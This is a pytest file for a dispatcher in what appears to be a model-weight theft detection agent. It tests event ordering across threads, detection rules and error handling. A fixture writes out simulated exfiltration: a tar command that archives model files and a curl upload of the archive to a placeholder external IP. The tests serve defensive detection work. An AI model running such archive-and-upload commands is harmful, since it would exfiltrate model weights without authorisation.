"""The dispatcher: events in the order they happened, whichever thread saw them; one isolation point."""

from __future__ import annotations

import random
import threading
import time
from datetime import UTC, datetime
from typing import Any

import pytest

from weightwarden.agent.detect.engine import DetectionEngine
from weightwarden.agent.detect.rules import load_rules
from weightwarden.agent.events import Action, Alert, Category, Event, ModelFile, ProcessInfo, Record
from weightwarden.agent.inventory import Inventory
from weightwarden.agent.pipeline.activity_events import access_event, connection_event
from weightwarden.agent.pipeline.dispatcher import Dispatcher
from weightwarden.agent.pipeline.ordered_queue import ObservationQueue
from weightwarden.agent.sensors.access import AccessObservation
from weightwarden.agent.sensors.network import ConnectionObservation

START = datetime(2026, 12, 1, 9, 0, tzinfo=UTC).timestamp()
SESSIONS = 12
MODEL_BYTES = 100_000_000


class Clock:
    def __init__(self, now: float) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


def inventory() -> Inventory:
    return Inventory(ModelFile(f"/srv/models/m{k}/model.safetensors", "safetensors", MODEL_BYTES, f"m{k}")
                     for k in range(SESSIONS))


def staging_then_upload(session: int) -> tuple[tuple[float, AccessObservation], tuple[float, ConnectionObservation]]:
    """One session archives its model, then (100 ms later) uploads 60 MB: the egress budget and the
    staged-then-sent sequence both alert, but only if the read is seen before the upload."""
    path = f"/srv/models/m{session}/model.safetensors"
    tar = ProcessInfo(pid=1000 + session, name="tar", executable="/usr/bin/tar",
                      command_line=f"tar czf /tmp/m{session}.tgz {path}", user="ana", uid=1000,
                      session_id=session + 1)
    curl = ProcessInfo(pid=2000 + session, name="curl", executable="/usr/bin/curl",
                       command_line=f"curl -T /tmp/m{session}.tgz https://203.0.113.{session}/u", user="ana",
                       uid=1000, session_id=session + 1)
    at = START + session * 0.3
    read = AccessObservation("read", path, 64769, 500 + session, MODEL_BYTES, tar, bytes_read=MODEL_BYTES,
                             bytes_read_source="fd-position", mapped=False, seconds_open=0.05)
    sent = ConnectionObservation("closed", curl, "10.0.0.2", 40000 + session, f"203.0.113.{session}", 443, None,
                                 60_000_000, 4096, "tcp_info", 0.08)
    return (at, read), (at + 0.1, sent)


def run_pipeline(workload: list[tuple[str, list[tuple[float, Any]]]], seed: int
                 ) -> tuple[list[tuple[str, ...]], list[str]]:
    """Every source on its own thread, started in a shuffled order and yielding at random; the alerts the
    dispatcher raised, and the order in which the observations arrived."""
    clock = Clock(START - 60)  # nothing is due while the threads hand their observations over
    queue = ObservationQueue(clock=clock)
    stored: list[Record] = []
    engine = DetectionEngine(load_rules())
    dispatcher = Dispatcher(queue, stored.append, engine.process)
    models = inventory()
    dispatcher.on(AccessObservation, lambda obs, at: [access_event(obs, models, at)])
    dispatcher.on(ConnectionObservation, lambda obs, at: [connection_event(obs, at)])
    arrivals: list[str] = []
    rng = random.Random(seed)
    delays = {source: rng.random() * 0.002 for source, _ in workload}

    def hand_over(source: str, items: list[tuple[float, Any]]) -> None:
        emit = queue.emitter(source)
        time.sleep(delays[source])
        for at, observation in items:
            emit(observation, at=at)
            arrivals.append(source)

    threads = [threading.Thread(target=hand_over, args=item) for item in rng.sample(workload, len(workload))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    clock.now = START + 3600
    dispatcher.turn(0)
    alerts = [(a.rule_id, str(a.severity), a.title, a.message) for a in stored if isinstance(a, Alert)]
    return alerts, arrivals


def test_the_same_interleaving_from_many_threads_gives_the_same_alerts_every_time() -> None:
    workload: list[tuple[str, list[tuple[float, Any]]]] = []
    for session in range(SESSIONS):  # 24 sources, each on its own thread
        read, sent = staging_then_upload(session)
        workload += [(f"access-{session}", [read]), (f"network-{session}", [sent])]
    first, _ = run_pipeline(workload, seed=0)
    # Each session: the staging-tool rule on the read, then the egress budget and the sequence on the upload.
    assert sorted({rule for rule, *_ in first}) == ["model-egress-budget", "model-staged-in-archive",
                                                    "staged-model-sent"]
    assert sum(rule == "staged-model-sent" for rule, *_ in first) == SESSIONS
    arrival_orders = set()
    for seed in range(1, 25):
        alerts, arrivals = run_pipeline(workload, seed)
        arrival_orders.add(tuple(arrivals))
        assert alerts == first, f"run {seed} differs"
    # The threads really did hand their observations over in different orders, uploads before reads among
    # them: in arrival order the engine would have missed uploads (shown below), the dispatcher did not.
    assert len(arrival_orders) > 1
    in_arrival_order = max(arrival_orders, key=lambda order: order.index("access-0") - order.index("network-0"))
    assert in_arrival_order.index("network-0") < in_arrival_order.index("access-0")
    engine = DetectionEngine(load_rules())
    items = {source: items[0] for source, items in workload}
    models = inventory()
    naive: list[Alert] = []
    for source in in_arrival_order:
        at, observation = items[source]
        moment = datetime.fromtimestamp(at, UTC)
        event = access_event(observation, models, moment) if source.startswith("access") else \
            connection_event(observation, moment)
        naive += engine.process(event)
    assert sum(a.rule_id == "staged-model-sent" for a in naive) < SESSIONS


def recorder() -> tuple[Dispatcher, ObservationQueue, list[Record]]:
    queue = ObservationQueue(window=0)
    stored: list[Record] = []
    return Dispatcher(queue, stored.append, lambda event: []), queue, stored


def note(text: str, at: datetime) -> list[Record]:
    if text == "boom":
        raise RuntimeError("a handler bug")
    return [Event(Action.SCAN_FINISHED, Category.FILE, text, time=at)]


def test_a_failing_handler_is_counted_and_the_next_observation_still_handled() -> None:
    dispatcher, queue, stored = recorder()
    dispatcher.on(str, note)
    emit = queue.emitter("test")
    for text in ("before", "boom", "after"):
        emit(text)
    assert dispatcher.drain() == 3
    assert [r.message for r in stored] == ["before", "after"]
    assert dispatcher.errors == 1
    assert dispatcher.status().drops == 1 and dispatcher.status().state == "degraded"


def test_a_failing_detection_keeps_the_event_and_counts_the_failure() -> None:
    queue = ObservationQueue(window=0)
    stored: list[Record] = []

    def detect(event: Event) -> list[Alert]:
        raise ValueError("a rule bug")

    dispatcher = Dispatcher(queue, stored.append, detect)
    dispatcher.on(str, note)
    queue.emitter("test")("kept")
    dispatcher.drain()
    assert [r.message for r in stored] == ["kept"] and dispatcher.errors == 1


def test_alerts_are_stored_right_after_the_event_that_caused_them() -> None:
    queue = ObservationQueue(window=0)
    stored: list[Record] = []

    def detect(event: Event) -> list[Alert]:
        return [Alert("r", "R", 5, f"because of {event.message}")]

    dispatcher = Dispatcher(queue, stored.append, detect)
    dispatcher.on(str, note)
    for text in ("one", "two"):
        queue.emitter("test")(text)
    dispatcher.drain()
    assert [r.message for r in stored] == ["one", "because of one", "two", "because of two"]


def test_each_type_has_one_handler_and_an_unknown_type_is_a_counted_error() -> None:
    dispatcher, queue, stored = recorder()
    dispatcher.on(str, note)
    with pytest.raises(ValueError, match="already has a handler"):
        dispatcher.on(str, note)
    queue.emitter("test")(42)
    dispatcher.drain()
    assert stored == [] and dispatcher.errors == 1


def test_timers_run_after_each_turn_and_bound_the_next_wait() -> None:
    dispatcher, _, _ = recorder()
    calls: list[float] = []
    dispatcher.every_turn(lambda now: calls.append(now) or 0.01)
    assert dispatcher.turn(0) == 0.01 and len(calls) == 1
    dispatcher.every_turn(lambda now: None)
    assert dispatcher.turn(0) == 0.01 and len(calls) == 2
